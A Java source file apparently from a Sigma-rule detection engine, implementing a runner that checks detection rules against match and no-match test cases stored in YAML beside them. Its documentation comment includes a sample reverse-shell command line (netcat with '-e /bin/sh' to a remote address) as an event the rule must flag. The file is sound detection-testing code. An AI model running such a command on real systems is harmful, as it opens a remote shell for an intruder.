package dev.bulwark.sigma;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.bulwark.schemas.SecurityEvent;
import dev.bulwark.schemas.SecurityEventJson;

/**
 * Runs the test cases kept beside rules: for {@code x.yml}, the file {@code x.tests.yml}.
 *
 * <p>Why: a rule someone adds comes with its test cases and no Java. Format of a test file:
 *
 * <pre>
 * rule: 7f734ed0-4f47-46c0-837f-6ee62505abd9   # optional when the rule file holds one rule (id or name)
 * match:                                       # cases the rule must fire on
 *   - name: netcat runs a shell                # optional
 *     event:                                   # a SecurityEvent in its own shape (see SecurityEventJson)
 *       event: {category: [process], type: [start]}
 *       process: {executable: /usr/bin/nc, command_line: nc 10.0.0.1 4444 -e /bin/sh}
 * no_match:                                    # cases the rule must not fire on
 *   - name: listening netcat
 *     fields:                                  # or: Sigma field names of the rule's logsource
 *       Image: /usr/bin/nc
 *       CommandLine: nc -lvnp 4444
 * </pre>
 *
 * An {@code event:} case goes through the whole engine: the event must pass the logsource's selector and then the
 * detection (so it also tests routing). A {@code fields:} case sets each field at the first event path the field
 * mapping gives it (translated values are translated back) and tests the detection alone. Each case gives one
 * {@link RuleTestResult} with the reason of a failure.
 */
public final class RuleTestRunner {

    private final SigmaEngine engine;

    /** A runner that compiles rules with {@code engine} (its field mapping decides field names and logsources). */
    public RuleTestRunner(SigmaEngine engine) {
        this.engine = engine;
    }

    /** Runs the tests of every rule file under a directory (or of one rule file). */
    public RuleTestReport run(Path path) {
        List<Path> ruleFiles = Files.isDirectory(path) ? SigmaRuleLoader.ruleFiles(path) : List.of(path);
        List<RuleTestResult> results = new ArrayList<>();
        List<String> untested = new ArrayList<>();
        for (Path ruleFile : ruleFiles) {
            Path testFile = testFileOf(ruleFile);
            if (Files.isRegularFile(testFile)) {
                results.addAll(runFile(ruleFile, testFile));
            } else {
                untested.add(ruleFile.toString());
            }
        }
        return new RuleTestReport(results, untested);
    }

    /** {@code x.yml} → {@code x.tests.yml} (and {@code x.yaml} → {@code x.tests.yaml}). */
    public static Path testFileOf(Path ruleFile) {
        String name = ruleFile.getFileName().toString();
        int dot = name.lastIndexOf('.');
        return ruleFile.resolveSibling(name.substring(0, dot) + ".tests" + name.substring(dot));
    }

    /** Runs one test file against the rules of one rule file. */
    public List<RuleTestResult> runFile(Path ruleFile, Path testFile) {
        String source = testFile.toString();
        List<RuleTestResult> results = new ArrayList<>();
        YamlNode.MapNode tests;
        try {
            List<YamlNode> documents = SafeYaml.readAll(source, Files.readString(testFile, StandardCharsets.UTF_8));
            if (documents.size() != 1) {
                throw new SigmaRuleException(SourceLocation.of(source), "a test file is one YAML document");
            }
            tests = YamlReader.map(documents.get(0), "a rule test file");
        } catch (SigmaRuleException e) {
            return List.of(new RuleTestResult(e.location(), null, "(test file)", true, false, e.reason()));
        } catch (IOException e) {
            return List.of(new RuleTestResult(SourceLocation.of(source), null, "(test file)", true, false,
                    "cannot read: " + e.getMessage()));
        }
        CompiledRule rule;
        try {
            rule = ruleUnderTest(ruleFile, tests);
        } catch (SigmaRuleException e) {
            return List.of(new RuleTestResult(e.location(), null, "(rule)", true, false, e.reason()));
        }
        for (String section : List.of("match", "no_match")) {
            YamlNode cases = tests.get(section);
            if (cases == null) {
                continue;
            }
            List<YamlNode> items = cases instanceof YamlNode.ListNode list ? list.items() : List.of(cases);
            for (int i = 0; i < items.size(); i++) {
                results.add(runCase(rule, section.equals("match"), items.get(i), section + "[" + i + "]"));
            }
        }
        if (results.isEmpty()) {
            results.add(new RuleTestResult(tests.location(), rule.key(), "(test file)", true, false,
                    "no cases: add 'match:' or 'no_match:' lists"));
        }
        return results;
    }

    private CompiledRule ruleUnderTest(Path ruleFile, YamlNode.MapNode tests) throws SigmaRuleException {
        ParsedRules parsed = engine.loader().parseFile(ruleFile);
        if (!parsed.failures().isEmpty()) {
            RuleProblem problem = parsed.failures().get(0);
            throw new SigmaRuleException(problem.location(), "the rule does not load: " + problem.reason());
        }
        String wanted = YamlReader.optionalString(tests, "rule");
        List<SigmaRule> candidates = parsed.rules().stream()
                .filter(r -> wanted == null || wanted.equals(r.id()) || wanted.equals(r.name())).toList();
        if (candidates.size() != 1) {
            throw new SigmaRuleException(tests.location(), wanted == null
                    ? ruleFile + " holds " + parsed.rules().size() + " rules; name one with 'rule:'"
                    : ruleFile + " has no rule with id or name '" + wanted + "'");
        }
        try {
            return engine.compile(candidates.get(0));
        } catch (SigmaRuleException e) {
            throw new SigmaRuleException(e.location(), "the rule does not load: " + e.reason());
        }
    }

    private RuleTestResult runCase(CompiledRule rule, boolean expectMatch, YamlNode item, String defaultName) {
        SourceLocation at = item.location();
        String name = defaultName;
        try {
            YamlNode.MapNode testCase = YamlReader.map(item, "a test case");
            String given = YamlReader.optionalString(testCase, "name");
            name = given == null ? defaultName : given;
            YamlNode eventNode = testCase.get("event");
            YamlNode fieldsNode = testCase.get("fields");
            if ((eventNode == null) == (fieldsNode == null)) {
                throw new SigmaRuleException(at, "a test case needs exactly one of 'event' (SecurityEvent shape) and "
                        + "'fields' (Sigma field names)");
            }
            boolean fired;
            SecurityEvent event;
            if (eventNode != null) {
                event = event(eventNode.toJson(), eventNode.location());
                fired = engine.ruleSet(List.of(rule), List.of()).match(event).stream()
                        .anyMatch(m -> m.rule().key().equals(rule.key()));
            } else {
                event = event(fromSigmaFields(rule, YamlReader.map(fieldsNode, "'fields'")), fieldsNode.location());
                fired = rule.matchesDetection(event);
            }
            return new RuleTestResult(at, rule.key(), name, expectMatch, fired == expectMatch,
                    explain(rule, event, expectMatch, fired, eventNode != null));
        } catch (SigmaRuleException e) {
            return new RuleTestResult(e.location(), rule.key(), name, expectMatch, false, e.reason());
        }
    }

    private static SecurityEvent event(JsonNode json, SourceLocation at) throws SigmaRuleException {
        try {
            return SecurityEventJson.fromJson(json);
        } catch (IllegalArgumentException e) {
            throw new SigmaRuleException(at, "invalid event: " + e.getMessage());
        }
    }

    private ObjectNode fromSigmaFields(CompiledRule rule, YamlNode.MapNode fields) throws SigmaRuleException {
        ObjectNode root = JsonNodeFactory.instance.objectNode();
        for (Map.Entry<String, YamlNode> entry : fields.entries().entrySet()) {
            FieldTarget target = engine.fieldMapping().target(rule.logsourceMapping(), entry.getKey())
                    .orElseThrow(() -> new SigmaRuleException(fields.keyLocation(entry.getKey()), "field '"
                            + entry.getKey() + "' is not mapped for logsource '" + rule.logsource() + "'"));
            JsonNode value = entry.getValue().toJson();
            if (value.isArray() && target.split() != null) {
                List<String> parts = new ArrayList<>();
                value.forEach(v -> parts.add(v.asText()));
                value = JsonNodeFactory.instance.textNode(String.join(target.split(), parts));
            }
            if (value.isValueNode()) {
                String text = value.asText();
                for (Map.Entry<String, String> translation : target.values().entrySet()) {
                    if (translation.getValue().equals(text)) {
                        value = JsonNodeFactory.instance.textNode(translation.getKey());
                    }
                }
            }
            set(root, target.paths().get(0), value);
        }
        return root;
    }

    private static void set(ObjectNode root, String path, JsonNode value) {
        List<String[]> segments = EventPaths.segments(path);
        ObjectNode node = root;
        for (int i = 0; i < segments.size(); i++) {
            String[] segment = segments.get(i);
            boolean last = i == segments.size() - 1;
            if (last && segment[1] == null) {
                node.set(segment[0], value);
                return;
            }
            JsonNode child = node.get(segment[0]);
            ObjectNode next = child instanceof ObjectNode object ? object : node.putObject(segment[0]);
            if (segment[1] != null) {
                if (last) {
                    next.set(segment[1], value);
                    return;
                }
                JsonNode keyed = next.get(segment[1]);
                next = keyed instanceof ObjectNode object ? object : next.putObject(segment[1]);
            }
            node = next;
        }
    }

    private static String explain(CompiledRule rule, SecurityEvent event, boolean expectMatch, boolean fired,
                                  boolean routed) {
        List<String> trueSelections = rule.detection().trueSelections(event);
        String selections = trueSelections.isEmpty() ? "no selection is true"
                : "true selections: " + String.join(", ", trueSelections);
        if (fired) {
            String evidence = rule.detection().evidence(event).stream()
                    .map(f -> f.field() + "='" + f.value() + "'").distinct().collect(Collectors.joining(", "));
            return (expectMatch ? "matched" : "expected no match, but the rule fired") + " (" + selections
                    + (evidence.isEmpty() ? "" : "; " + evidence) + ")";
        }
        if (routed && rule.matchesDetection(event)) {
            return (expectMatch ? "expected a match, but " : "no match: ") + "the detection matches and the event is "
                    + "not in logsource '" + rule.logsource() + "' (see its 'events' selector in the field mapping)";
        }
        return (expectMatch ? "expected a match, but the rule did not fire" : "did not fire") + " (" + selections
                + "; condition: " + String.join(" | ", rule.rule().detection().conditionText()) + ")";
    }
}
